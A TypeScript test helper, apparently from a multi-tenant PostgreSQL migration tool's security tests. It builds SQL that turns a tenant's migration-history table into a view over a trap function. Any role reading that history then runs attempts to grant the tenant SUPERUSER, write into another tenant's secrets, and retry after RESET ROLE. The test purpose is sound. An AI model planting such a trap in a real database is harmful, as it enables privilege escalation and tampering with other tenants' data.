import pg from 'pg';

/** Options of `historySpySql`. */
export interface HistorySpyOptions {
  /** The attacking tenant: its schema (which holds Kysely's `kysely_migration`) and its role. */
  schemaName: string;
  username: string;
  /** Another tenant's schema, with a table `secrets (v text)` the spy tries to write into. */
  victimSchema: string;
  /** The NOTIFY channel on which the spy reports `current_user session_user`. */
  channel: string;
  /** After its attempts, fail with `spy ran as current_user=<x> session_user=<y>`. */
  loud: boolean;
}

/**
 * SQL a tenant runs, logged in as itself, to turn its `kysely_migration`
 * table into a view over a function of its own (SECURITY INVOKER, the
 * default). Whoever reads its migration history then runs the function, which
 * reports who it runs as (a NOTIFY on `channel`, a row in the tenant's own
 * table `seen (current_role_name, session_role_name)`), tries `ALTER ROLE
 * <tenant> SUPERUSER` and a write into the victim's `secrets`, all of that
 * again after `RESET ROLE` (SET ROLE is no boundary), and then returns the
 * real history (kept in its table `history`). With `loud` it fails instead of
 * returning, naming who ran it. Anyone may read the view, so an admin without
 * rights on the tenant's objects would read it too.
 *
 * WARNING: test-only; it is an attack.
 */
export function historySpySql(options: HistorySpyOptions): string {
  const id = (name: string) => pg.escapeIdentifier(name);
  const lit = (value: string) => pg.escapeLiteral(value);
  const schema = id(options.schemaName);
  const attempts = `
      BEGIN INSERT INTO ${schema}.seen VALUES (current_user, session_user); EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN PERFORM pg_catalog.pg_notify(${lit(options.channel)}, current_user || ' ' || session_user); EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', ${lit(options.username)}); EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE pg_catalog.format('INSERT INTO %I.secrets VALUES (%L)', ${lit(options.victimSchema)}, 'written by ' || current_user); EXCEPTION WHEN OTHERS THEN NULL; END;`;
  return `
    CREATE TABLE ${schema}.seen (current_role_name text, session_role_name text);
    CREATE TABLE ${schema}.history AS SELECT name, "timestamp" FROM ${schema}.kysely_migration;
    CREATE FUNCTION ${schema}.spy() RETURNS TABLE (name varchar(255), "timestamp" varchar(255)) LANGUAGE plpgsql AS $body$
    DECLARE
      me text := current_user;
      who text := session_user;
    BEGIN
      ${attempts}
      -- SET ROLE is no boundary: all of it again as the session's own role.
      BEGIN
        RESET ROLE;
        ${attempts}
        EXECUTE pg_catalog.format('SET ROLE %I', me);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      IF ${options.loud ? 'true' : 'false'} THEN
        RAISE EXCEPTION 'spy ran as current_user=% session_user=%', me, who;
      END IF;
      RETURN QUERY SELECT h.name, h."timestamp" FROM ${schema}.history h;
    END $body$;
    DROP TABLE ${schema}.kysely_migration;
    CREATE VIEW ${schema}.kysely_migration AS SELECT * FROM ${schema}.spy();
    GRANT USAGE ON SCHEMA ${schema} TO PUBLIC;
    GRANT SELECT ON ${schema}.kysely_migration, ${schema}.history TO PUBLIC;
    GRANT EXECUTE ON FUNCTION ${schema}.spy() TO PUBLIC;`;
}

/** What the spy reported, by every channel it had: `spy ran as ...` in `text`, and the `seen` rows and NOTIFY payloads given. */
export function spyWitnesses(sources: { text?: string; seen?: readonly { current: string; session: string }[]; notifications?: readonly string[] }): { current: string; session: string }[] {
  const ran = [...(sources.seen ?? [])];
  for (const payload of sources.notifications ?? []) {
    const [current = '', session = ''] = payload.split(' ');
    ran.push({ current, session });
  }
  for (const match of (sources.text ?? '').matchAll(/spy ran as current_user=(\S+) session_user=(\S+?)(?=["'.,\s]|$)/g)) {
    ran.push({ current: match[1]!, session: match[2]! });
  }
  return ran;
}
